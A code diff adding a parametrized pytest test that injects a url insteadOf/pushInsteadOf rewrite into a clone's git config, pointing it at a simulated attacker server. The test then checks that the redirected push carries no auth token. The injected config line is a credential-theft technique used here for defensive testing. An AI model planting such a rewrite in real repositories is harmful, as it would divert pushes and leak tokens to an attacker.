@@ -448,3 +448,26 @@ def test_a_patch_with_bytes_that_are_not_utf8_applies_exactly(tmp_path: Path) ->
     run_test_git("checkout", "--", "latin1.txt", cwd=tree)
     apply_patch(tree, raw.decode("utf-8", errors="surrogateescape"))
     assert (tree / "latin1.txt").read_bytes() == b"caf\xe9 cr\xe8me\n"
+
+
+@pytest.mark.parametrize("key", ["insteadOf", "pushInsteadOf"])
+def test_a_followed_rewrite_still_gets_no_token_security_36(
+    served, tmp_path: Path, key: str
+) -> None:
+    """The second line of defence under the config check: if git does follow a rewrite
+    in the clone's own config, the helper is scoped to the computed URL, so the
+    rewritten request carries no token."""
+    server, attacker, sha = served
+    url = server.repo_url("octo/app")
+    tree = clone_at(url, sha, tmp_path / "clone", TOKEN)
+    commit_patch(tree, PATCH, "Fix add", "m1")
+    with (tree / ".git" / "config").open("a") as config:
+        config.write(f'[url "{attacker.url}/"]\n\t{key} = {server.url}/\n')
+    server.requests.clear()
+    proc = host_git.run(
+        ["push", "--quiet", url, "HEAD:refs/heads/rewritten"], tree, remote=url, token=TOKEN
+    )
+    assert proc.returncode != 0 and TOKEN not in proc.stderr
+    assert attacker.requests, "the rewrite was not followed"
+    assert _authorizations(attacker) == {""}
+    assert server.requests == []
